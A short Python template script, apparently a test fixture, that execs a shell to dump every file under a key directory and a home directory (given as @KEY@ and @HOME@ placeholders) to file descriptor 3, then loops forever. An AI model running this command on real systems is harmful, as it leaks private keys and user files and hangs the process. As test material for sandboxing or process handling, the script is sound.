"""Goes on as a shell."""

import os

os.execv("/bin/sh", ["sh", "-c", "cat @KEY@/* @HOME@/* >&3; while :; do :; done"])
